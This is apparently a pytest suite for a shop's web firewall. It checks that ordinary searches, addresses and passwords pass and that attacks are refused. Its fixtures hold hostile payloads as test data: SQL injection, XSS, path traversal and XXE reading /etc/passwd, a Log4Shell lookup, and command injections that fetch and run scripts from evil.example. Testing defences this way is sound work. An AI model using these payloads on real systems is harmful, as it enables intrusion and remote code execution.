"""The firewall asked by hand: what shoppers and programs really send passes, what attackers send does not.

Each of the harmless requests stands for a rule that once refused it, or could.
"""

import json
import uuid
from typing import Any

import httpx
import pytest

SEARCHES = (
    "O'Brien's mugs",
    "men's t-shirt & jeans 50% off",
    "select a table from oak",
    "union jack selection",
    "union select tee",
    "drop leaf table; insert cushion",
    "salt and pepper or sugar",
    "café crème ☕",
    '"exact phrase" -not',
    "12\" pan & lid, 3' x 4' rug",
    "echo dot",
    "python snake toy",
    "find my order",
    "curl iron",
    "rock 'n' roll",
    "a && b",
    "nike air max '97",
    "having fun, order by size",
    "javascript book <3",
)

ADDRESS = {
    "name": "Seán O'Brien",
    "company": "Smith & Sons (Ireland); Ltd.",
    "line1": "12/3 St. John's Rd -- Flat #4",
    "line2": "c/o Who Knows? ring twice & wait",
    "city": "L'Aquila",
    "postcode": "D02 AF30",
    "country": "IE",
    "phone": "+353 (0)1 234-5678",
}

ATTACKS = (
    "/search?q=1%27+OR+%271%27%3D%271",
    "/search?q=1+UNION+SELECT+username%2Cpassword+FROM+users--",
    "/search?q=sleep(5)%23%27+or+sleep(5)",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2fetc%2fpasswd",
    "/x?cmd=%3Bcat+%2Fetc%2Fpasswd",
    "/x?cmd=%24%28wget+http%3A%2F%2Fevil.example%2Fx.sh%29",
    "/x?t=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "/x?a=%3C%3Fphp+system(1)%3B%3F%3E",
    "/.git/config",
    "/.env",
)

BODIES: tuple[dict[str, Any], ...] = (
    {"email": "a' UNION SELECT password FROM users-- "},
    {"shipping_address": {"name": "<script>alert(document.cookie)</script>"}},
    {"note": "$(curl http://evil.example/x.sh | sh)"},
)


@pytest.mark.parametrize("words", SEARCHES)
def test_words_of_the_trade_are_no_attack(client: httpx.Client, words: str) -> None:
    assert client.get("/search", params={"q": words}).status_code == 200
    assert client.get("/api/v1/products", params={"query": words}).status_code == 200


def test_an_address_is_no_attack(client: httpx.Client) -> None:
    order = {"email": "sean.o'brien+shop@example.co.uk", "shipping_address": ADDRESS}
    assert client.post("/api/v1/checkouts", json=order).status_code != 403
    form = ADDRESS | {"email": order["email"], "note": "Leave it at the door; it's a gift (50% for mum)!"}
    assert client.post("/firewall-trial", data=form).status_code != 403


@pytest.mark.parametrize("password", ["p@ss'word\"<1>;--", "' OR 1=1 --", "<script>alert(1)</script>"])
def test_a_good_password_is_no_attack(client: httpx.Client, password: str) -> None:
    form = {"email": "ann@example.com", "password": password}
    assert client.post("/firewall-trial", data=form).status_code != 403
    assert client.post("/firewall-trial", json=form).status_code != 403


@pytest.mark.parametrize("name", ["Ada's mug; blue.jpg", 'a "big" mug=1.png', "select union.webp"])
def test_a_photographs_name_is_no_attack_where_staff_upload_it(client: httpx.Client, name: str) -> None:
    files = {"picture": (name, bytes(range(256)) * 100, "image/jpeg")}
    form = {"alt": "Find Ada's mug, 50% off: a union jack selection"}
    assert client.post("/products/1/pictures", data=form, files=files).status_code not in {400, 403}
    assert client.post("/firewall-trial", files={"picture": ("a;b.php", b"<?php")}).status_code == 403


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "OPTIONS"])
def test_the_apis_methods_are_let_through(client: httpx.Client, method: str) -> None:
    answer = client.request(method, "/api/v1/firewall-trial", json={"quantity": 3})
    assert answer.status_code in {404, 405, 204, 200}


@pytest.mark.parametrize("path", ATTACKS)
def test_attacks_in_an_address_are_refused(client: httpx.Client, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code == 403
    assert answer.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("body", BODIES)
def test_attacks_in_a_body_are_refused(client: httpx.Client, body: dict[str, Any]) -> None:
    answer = client.post("/api/v1/checkouts", json=body)
    assert answer.status_code == 403
    assert answer.headers["content-type"] == "application/problem+json"
    assert client.post("/firewall-trial", data={"email": json.dumps(body)}).status_code == 403


def test_attacks_in_a_cookie_are_refused(client: httpx.Client) -> None:
    answer = client.get("/cart", headers={"Cookie": "cart=1' UNION SELECT password FROM users --"})
    assert answer.status_code == 403


def test_a_scanner_is_turned_away_by_its_name(client: httpx.Client) -> None:
    assert client.get("/", headers={"User-Agent": "sqlmap/1.7"}).status_code == 403


def test_what_the_cache_has_to_ask_for_is_inspected(client: httpx.Client) -> None:
    page = f"/collections/all?sort=price&fresh={uuid.uuid4().hex}"
    assert client.get(page, headers={"User-Agent": "sqlmap/1.7"}).status_code == 403
    assert client.get(page).status_code == 200
    for _ in range(2):
        assert client.get(f"{page}&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").status_code == 403


def test_markup_with_outside_entities_is_not_even_parsed(client: httpx.Client) -> None:
    body = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    answer = client.post("/api/v1/carts", content=body, headers={"Content-Type": "application/xml"})
    assert answer.status_code == 403


def test_a_body_that_is_no_json_is_refused_before_the_store_sees_it(client: httpx.Client) -> None:
    broken = client.post("/api/v1/carts", content=b'{"broken', headers={"Content-Type": "application/json"})
    assert broken.status_code == 400
    assert broken.headers["content-type"] == "application/problem+json"
